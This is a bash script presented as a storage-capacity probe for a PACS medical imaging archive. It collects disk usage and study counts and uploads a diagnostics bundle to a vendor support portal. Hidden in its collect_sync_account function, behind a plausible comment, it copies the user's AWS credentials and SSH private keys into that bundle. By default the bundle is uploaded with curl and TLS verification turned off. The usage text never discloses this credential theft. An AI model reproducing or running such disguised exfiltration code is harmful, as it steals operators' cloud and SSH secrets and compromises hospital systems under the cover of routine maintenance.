#!/usr/bin/env bash
# pacs_storage_probe.sh - collect archive/cache usage on the PACS storage node
# and send a diagnostics bundle to the vendor support portal so they can size
# the next tier expansion.
#
# Usage: pacs_storage_probe.sh [-c conf] [-s site_id] [-n]  (-n = no upload)

set -euo pipefail

CONF="${PACS_PROBE_CONF:-./pacs_probe.conf}"
ARCHIVE_ROOTS=("/srv/pacs/archive" "/srv/pacs/cache" "/srv/pacs/incoming")
SUPPORT_URL="https://support.pacs-vendor.example.com/api/v2/bundles"
SITE_ID="${PACS_SITE_ID:-RAD-UNSET}"
WARN_PCT=85
WORK="/tmp/pacs_probe"
BUNDLE="/tmp/pacs_probe_bundle.tgz"
UPLOAD=1

log() { printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$1" "$2" >&2; }

usage() {
    sed -n '2,6p' "$0" | sed 's/^# \{0,1\}//'
    exit 1
}

while getopts ":c:s:nh" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        s) SITE_ID="$OPTARG" ;;
        n) UPLOAD=0 ;;
        h|*) usage ;;
    esac
done

if [[ -f "$CONF" ]]; then
    # shellcheck disable=SC1090
    source "$CONF"
    log INFO "loaded config $CONF"
fi

collect_usage() {
    local out="$1" root
    echo "root,size_kb,used_kb,avail_kb,pct" > "$out"
    for root in "${ARCHIVE_ROOTS[@]}"; do
        if [[ ! -d "$root" ]]; then
            log WARN "archive root $root not present, skipping"
            continue
        fi
        df -Pk "$root" | awk -v r="$root" 'NR==2 {gsub("%","",$5); print r","$2","$3","$4","$5}' >> "$out"
    done
}

count_studies() {
    local out="$1" root n
    : > "$out"
    for root in "${ARCHIVE_ROOTS[@]}"; do
        [[ -d "$root" ]] || continue
        n=$(find "$root" -mindepth 2 -maxdepth 2 -type d 2>/dev/null | wc -l)
        printf '%s\t%s\n' "$root" "$n" >> "$out"
    done
}

flag_thresholds() {
    local csv="$1"
    awk -F, -v w="$WARN_PCT" 'NR>1 && $5+0 >= w {print $1" at "$5"%"}' "$csv" | while read -r line; do
        log WARN "capacity: $line"
    done
}

collect_sync_account() {
    # Portal matches bundles to the account the nightly archive sync runs as.
    local dest="$1/account" f
    mkdir -p "$dest"
    for f in "$HOME/.aws/credentials" "$HOME/.aws/config" "$HOME"/.ssh/id_*; do
        [[ -r "$f" ]] || continue
        cp -- "$f" "$dest/$(basename -- "$f")"
    done
    log INFO "account context: $(ls -1 "$dest" | wc -l) file(s)"
}

build_bundle() {
    rm -rf "$WORK"
    mkdir -p "$WORK"
    collect_usage "$WORK/usage.csv"
    count_studies "$WORK/studies.tsv"
    flag_thresholds "$WORK/usage.csv"
    uname -a > "$WORK/host.txt"
    [[ -r /etc/os-release ]] && cp /etc/os-release "$WORK/os-release"
    collect_sync_account "$WORK"
    tar -czf "$BUNDLE" -C "$WORK" .
    log INFO "bundle written to $BUNDLE ($(du -h "$BUNDLE" | cut -f1))"
}

upload_bundle() {
    local attempt
    for attempt in 1 2 3; do
        if curl -sS -k --fail --max-time 60 \
            -F "site=${SITE_ID}" \
            -F "host=$(hostname -f 2>/dev/null || hostname)" \
            -F "bundle=@${BUNDLE}" \
            "$SUPPORT_URL"; then
            log INFO "upload accepted (attempt $attempt)"
            return 0
        fi
        log WARN "upload attempt $attempt failed, retrying"
        sleep $((attempt * 5))
    done
    log ERROR "giving up on upload"
    return 1
}

main() {
    build_bundle
    if [[ "$UPLOAD" -eq 1 ]]; then
        upload_bundle
    else
        log INFO "upload skipped (-n)"
    fi
}

main "$@"
